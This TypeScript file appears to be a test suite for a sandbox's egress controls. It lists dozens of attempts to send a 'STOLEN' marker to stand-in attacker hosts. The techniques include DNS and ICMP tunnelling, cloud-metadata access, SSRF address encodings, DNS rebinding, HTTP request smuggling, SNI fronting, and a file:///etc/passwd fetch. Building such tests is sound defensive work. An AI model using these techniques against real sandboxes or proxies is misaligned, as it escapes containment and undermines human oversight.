/**
 * Ways to carry something out of a sandbox, as code that runs inside one. What is stolen is the word MARK; it stands
 * in whatever the attempt sends, so that a stand-in can tell whether it arrived.
 */
import { spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { connect, type NetConnectOpts } from 'node:net';
import { connect as connectTls } from 'node:tls';

export const MARK = 'STOLEN';
/** Public, and on no list. */
export const EVIL = '93.184.215.15';
export const EVIL_IPV6 = '2606:2800:220:1::15';
/** Public, where every allowed name leads. */
export const ALLOWED = '93.184.215.14';
export const HOST_ADDRESS = '10.9.9.1';
export const ABSTRACT_SOCKET = '\0hud-control';

export interface Attempt {
  name: string;
  /** Straight at the target, or by way of the proxy. */
  way: 'direct' | 'proxy';
  run(): Promise<string>;
}

const PATIENCE_MS = 1_500;

/** Connects, sends, and returns what came back; an error is an outcome too. */
export function say(target: NetConnectOpts, ...parts: (string | Buffer)[]): Promise<string> {
  return new Promise((resolve) => {
    let reply = '';
    const socket = connect(target);
    const done = (how: string): void => {
      clearTimeout(timer);
      socket.destroy();
      resolve(`${how} ${reply}`.trim());
    };
    const timer = setTimeout(() => done('silence'), PATIENCE_MS);
    socket.setNoDelay(true);
    socket.on('error', (error: NodeJS.ErrnoException) => done(error.code ?? error.message));
    socket.on('data', (bytes) => (reply += bytes.toString('latin1')));
    socket.on('close', () => done('closed'));
    const speak = async (): Promise<void> => {
      for (const part of parts) {
        socket.write(part);
        await new Promise((next) => setTimeout(next, 20));
      }
    };
    socket.on('connect', () => void speak());
  });
}

const proxy = { host: '127.0.0.1', port: 3128 };
const ask = (...parts: (string | Buffer)[]): Promise<string> => say(proxy, ...parts);
const get = (url: string, ...headers: string[]): Promise<string> => ask([`GET ${url} HTTP/1.1`, ...headers, '', ''].join('\r\n'));
const connectTo = (authority: string): Promise<string> =>
  ask(`CONNECT ${authority} HTTP/1.1\r\n\r\n`, `GET /${MARK} HTTP/1.1\r\nHost: x\r\n\r\n`);
const each = async (list: readonly string[], run: (item: string) => Promise<string>): Promise<string> =>
  (await Promise.all(list.map(async (item) => `${item}: ${await run(item)}`))).join(' | ');
const tcp = (host: string, port: number): Promise<string> => say({ host, port }, `GET /${MARK} HTTP/1.1\r\n\r\n`);

function datagram(host: string, port: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = createSocket(host.includes(':') ? 'udp6' : 'udp4');
    socket.on('error', (error) => resolve(error.message));
    socket.bind(0, () => {
      socket.setBroadcast(true);
      socket.send(`${MARK}.example`, port, host, (error) => {
        socket.close();
        resolve(error?.message ?? 'sent');
      });
    });
  });
}

function python(code: string): Promise<string> {
  return command('python3', '-c', `import socket, struct, fcntl\n${code}`);
}

function command(name: string, ...args: string[]): Promise<string> {
  return new Promise((resolve) => {
    const child = spawn(name, args, { timeout: 5_000 });
    let output = '';
    for (const stream of [child.stdout, child.stderr]) stream.on('data', (bytes: Buffer) => (output += bytes.toString()));
    child.on('error', (error) => resolve(error.message));
    child.on('close', (code) => resolve(`exit ${code} ${output.trim().split('\n').at(-1)}`));
  });
}

/** TLS with another name than the tunnel's; the hello is cut into pieces of the given size. */
async function fronted(authority: string, servername: string, pieceBytes?: number): Promise<string> {
  const hello = await helloFor(servername);
  const pieces: Buffer[] = [];
  for (let at = 0; at < hello.length; at += pieceBytes ?? hello.length) pieces.push(hello.subarray(at, at + (pieceBytes ?? hello.length)));
  return await ask(`CONNECT ${authority} HTTP/1.1\r\n\r\n`, ...pieces);
}

/** What a TLS client sends first, in one record. */
function helloFor(servername: string): Promise<Buffer> {
  return new Promise((resolve) => {
    const server = connectTls({ socket: new Recorder(resolve), servername, rejectUnauthorized: false });
    server.on('error', () => {});
  });
}

/** The same hello with each handshake byte in a record of its own. */
function inTinyRecords(hello: Buffer): Buffer {
  return Buffer.concat([...hello.subarray(5)].map((byte) => Buffer.from([22, 3, 1, 0, 1, byte])));
}

class Recorder extends (await import('node:stream')).Duplex {
  readonly #onBytes: (bytes: Buffer) => void;
  constructor(onBytes: (bytes: Buffer) => void) {
    super();
    this.#onBytes = onBytes;
  }
  override _read(): void {}
  override _write(bytes: Buffer, _encoding: string, done: () => void): void {
    this.#onBytes(bytes);
    done();
  }
}

const direct: Record<string, () => Promise<string>> = {
  'a DNS question over UDP': () => datagram(EVIL, 53),
  'a DNS question over TCP': () => tcp(EVIL, 53),
  'a DNS question to link-local': () => datagram('169.254.169.254', 53),
  'a resolver of its own choice': async () => {
    const resolver = new Resolver({ timeout: 500, tries: 1 });
    resolver.setServers([EVIL]);
    return await resolver.resolve4(`${MARK}.example`).then(String, String);
  },
  'an ICMP echo with a payload': () =>
    python(`s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(bytes([8, 0]) + (0xffff - 0x0800 - 0).to_bytes(2, 'big') + bytes(4), ('${EVIL}', 0))`),
  'a handmade IP packet': () =>
    python(`s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.sendto(struct.pack('!BBHHHBBH4s4s', 0x45, 0, 26, 1, 0, 64, 253, 0, socket.inet_aton('${HOST_ADDRESS}'), socket.inet_aton('${EVIL}')) + b'${MARK}', ('${EVIL}', 0))`),
  'frames on every interface': () =>
    python(`for index, name in socket.if_nameindex():
  s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
  ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 26, 1, 0, 64, 253, 0, socket.inet_aton('${HOST_ADDRESS}'), socket.inet_aton('${EVIL}'))
  s.sendto(ip + b'${MARK}', (name, 0x0800, 0, 0, b'\\xff' * 6))`),
  'TCP to a public IPv4 address': () => tcp(EVIL, 443),
  'TCP to a public IPv6 address': () => tcp(EVIL_IPV6, 443),
  'UDP to a public IPv6 address': () => datagram(EVIL_IPV6, 443),
  'QUIC to a public address': () => datagram(EVIL, 443),
  'the metadata service': () => tcp('169.254.169.254', 80),
  'private networks': () => each(['10.1.2.3', '172.16.5.5', '192.168.7.7'], (host) => tcp(host, 80)),
  'carrier-grade NAT': () => tcp('100.64.1.1', 80),
  'the control port on loopback': () => each(['127.0.0.1', '::1', '0.0.0.0', 'localhost'], (host) => tcp(host, 8765)),
  'the control port at the address of the machine': () => tcp(HOST_ADDRESS, 8765),
  'an abstract unix socket': () => say({ path: ABSTRACT_SOCKET }, MARK),
  'broadcast and multicast': () => each(['255.255.255.255', '224.0.0.1', '10.9.9.255', 'ff02::1%lo'], (host) => datagram(host, 9999)),
  'a route of its own': async () => {
    const made = await command('ip', 'route', 'add', `${EVIL}/32`, 'dev', 'lo', 'onlink', 'via', HOST_ADDRESS);
    return `${made} ${await tcp(EVIL, 80)}`;
  },
  'an interface of its own': async () => {
    const made = await command(
      'sh',
      '-c',
      `ip link add out type veth peer name back && ip link set back up && ip addr add 10.9.9.7/24 dev out && ip link set out up`,
    );
    return `${made} ${await tcp(HOST_ADDRESS, 8765)}`;
  },
};

const proxied: Record<string, () => Promise<string>> = {
  'CONNECT to a host that is not listed': () => connectTo('evil.example:443'),
  'a request for a host that is not listed': () => get(`http://evil.example/${MARK}`),
  'a name that would tell the resolver': () => each([`${MARK}.evil.example:443`, `${MARK}.example`], connectTo),
  'CONNECT to addresses': () =>
    each(
      [
        '10.1.2.3:80',
        '167838211:80',
        '012.01.02.03:80',
        '0x0a010203:80',
        '0xa.1.515:80',
        '10.66051:80',
        '[::ffff:10.1.2.3]:80',
        '[::ffff:a01:203]:80',
        '[::10.1.2.3]:80',
        '[64:ff9b::a01:203]:80',
        '[2002:a01:203::]:80',
        '169.254.169.254:80',
        '[fd00:ec2::254]:80',
        '[fe80::1]:80',
        '100.64.1.1:80',
        `${EVIL}:443`,
        `[${EVIL_IPV6}]:443`,
      ],
      connectTo,
    ),
  'CONNECT to the control port': () =>
    each(
      ['127.0.0.1:8765', '127.1:8765', '0:8765', '0.0.0.0:8765', '[::1]:8765', '[::]:8765', 'localhost:8765', `${HOST_ADDRESS}:8765`],
      connectTo,
    ),
  'requests for addresses': () =>
    each(['169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '[::ffff:169.254.169.254]', '10.1.2.3', EVIL], (host) =>
      get(`http://${host}/${MARK}`),
    ),
  'a name that leads to private addresses': () =>
    each(['private', 'metadata', 'mapped', 'cgnat', 'nat64', 'loopback'], (name) => connectTo(`${name}.allowed.example:80`)),
  'a name with a private address among public ones': () => connectTo('mixed.allowed.example:80'),
  'a name that changes between check and connection': async () => {
    const outcomes: string[] = [];
    for (let turn = 0; turn < 4; turn++) outcomes.push(await get('http://rebind.allowed.example/', 'X-Turn: 1'));
    return outcomes.join(' | ');
  },
  'two lengths': () => smuggle('Content-Length: 4', 'Content-Length: 60'),
  'a length and chunks': () => smuggle('Content-Length: 4', 'Transfer-Encoding: chunked'),
  'chunks and a length': () => smuggle('Transfer-Encoding: chunked', 'Content-Length: 4'),
  'an obfuscated coding': () =>
    each(
      [
        'Transfer-Encoding : chunked',
        'Transfer-Encoding: xchunked',
        'Transfer-Encoding: chunked, identity',
        'Transfer-Encoding:\x0bchunked',
      ],
      (line) => smuggle(line, 'X-A: 1'),
    ),
  'a folded header': () => get('http://allowed.example/', 'X-A: 1', ` ${MARK}: 2`),
  'line ends of another kind': () =>
    each([`X-A: 1\nX-${MARK}: 2`, `X-A: 1\rX-${MARK}: 2`, `X-A: 1\0X-${MARK}: 2`], (line) => get('http://allowed.example/', line)),
  'line ends in the target': () =>
    each([`/%0d%0aX-A:1\r\nX-${MARK}:`, `/\nX-${MARK}:`, `/\tX-${MARK}`], (path) => get(`http://allowed.example${path}`)),
  'a second request behind the first': () =>
    ask(
      `GET http://allowed.example/ HTTP/1.1\r\n\r\nGET http://allowed.example/${MARK} HTTP/1.1\r\n\r\nGET http://10.1.2.3/${MARK} HTTP/1.1\r\n\r\n`,
    ),
  'another Host than the URL': () => get('http://allowed.example/', `Host: ${MARK}.evil.example`),
  'another server name than the host': async () =>
    await each(['evil.example', 'notallowed.example', 'allowed.example.evil.example'], (name) =>
      fronted('allowed.example:443', `${MARK.toLowerCase()}.${name}`),
    ),
  'another server name, cut into pieces': () => fronted('allowed.example:443', `${MARK.toLowerCase()}.evil.example`, 100),
  'another server name, in tiny records': async () =>
    await ask(`CONNECT allowed.example:443 HTTP/1.1\r\n\r\n`, inTinyRecords(await helloFor(`${MARK.toLowerCase()}.evil.example`))),
  'redirects to private places': async () => {
    const asked = await get(`http://allowed.example/redirect?${encodeURIComponent(`http://10.1.2.3/${MARK}`)}`.replace(MARK, 'next'));
    const next = /Location: (\S+)/.exec(asked)?.[1] ?? 'http://10.1.2.3/';
    return `${asked} | ${await get(`${next}/${MARK}`)}`;
  },
  'a user in front of the host': () =>
    each(
      [`http://allowed.example@${EVIL}/${MARK}`, `http://allowed.example:80@evil.example/${MARK}`, `http://${MARK}@allowed.example/`],
      (url) => get(url),
    ),
  'a user in a CONNECT': () => each([`allowed.example@${EVIL}:443`, `allowed.example:443@evil.example:443`], connectTo),
  'a trailing dot': () =>
    each(['evil.example.:443', 'allowed.example..evil.example:443', '127.0.0.1.:8765', 'allowed.example.evil.example.:443'], connectTo),
  'upper case': () => each(['EVIL.EXAMPLE:443', 'LOCALHOST:8765', '0X7F.1:8765'], connectTo),
  'letters that look alike': () =>
    each(
      ['\u0430llowed.example:443', 'xn--llowed-2nf.example:443', 'allowed\u3002evil.example:443', 'allowed.ex\u00e4mple:443'],
      connectTo,
    ),
  'names that begin or end alike': () =>
    each(['notallowed.example:443', 'allowed.example.evil.example:443', 'allowed-example:443', 'allowed.exampl:443'], connectTo),
  'tricks with the port': () =>
    each(
      [
        'allowed.example:443:80',
        'allowed.example:0',
        'allowed.example:65536',
        'allowed.example:80@evil.example',
        'allowed.example:-1',
        ':443',
        'allowed.example:',
      ],
      connectTo,
    ),
  'HTTP/0.9': () => ask(`GET http://allowed.example/${MARK}\r\n`),
  'a relative target with a Host': () => get(`/${MARK}`, 'Host: evil.example'),
  'other schemes': () =>
    each([`https://allowed.example/${MARK}`, `ftp://allowed.example/${MARK}`, `file:///etc/passwd`, `//evil.example/${MARK}`], (url) =>
      get(url),
    ),
  'an encoded or broken host': () =>
    each(
      [
        `http://%65vil.example/${MARK}`,
        `http://evil.example\\@allowed.example/${MARK}`,
        `http://allowed.example\\.evil.example/${MARK}`,
        `http://allowed.example#@evil.example/${MARK}`,
      ],
      (url) => get(url),
    ),
  'the proxy by way of the proxy': () =>
    each(['127.0.0.1:3128', 'localhost:3128', '[::1]:3128', '127.0.0.2:3128', `${HOST_ADDRESS}:3128`], connectTo),
  'an upgrade to a WebSocket': () => get(`http://evil.example/${MARK}`, 'Connection: Upgrade', 'Upgrade: websocket'),
  'an upgrade that carries on by itself': () =>
    ask(
      'GET http://allowed.example/ HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: h2c\r\n\r\n',
      `GET /${MARK} HTTP/1.1\r\nHost: evil.example\r\n\r\n`,
    ),
  'a CONNECT with a body': () => ask(`CONNECT allowed.example:443 HTTP/1.1\r\nContent-Length: 5\r\n\r\n${MARK}`),
  'a length that is declared away': () =>
    ask(
      `POST http://allowed.example/ HTTP/1.1\r\nConnection: content-length\r\nContent-Length: 4\r\n\r\nbodyGET http://evil.example/${MARK} HTTP/1.1\r\n\r\n`,
    ),
};

/** A body in which, read by the other rule, hides a request of its own. */
function smuggle(...framing: string[]): Promise<string> {
  return ask(
    ['POST http://allowed.example/ HTTP/1.1', ...framing, '', '0', '', `GET /${MARK} HTTP/1.1`, 'Host: evil.example', '', ''].join('\r\n'),
  );
}

const all = (list: Record<string, () => Promise<string>>, way: Attempt['way']): Attempt[] =>
  Object.entries(list).map(([name, run]) => ({ name, way, run }));

export const ATTEMPTS: readonly Attempt[] = [...all(direct, 'direct'), ...all(proxied, 'proxy')];
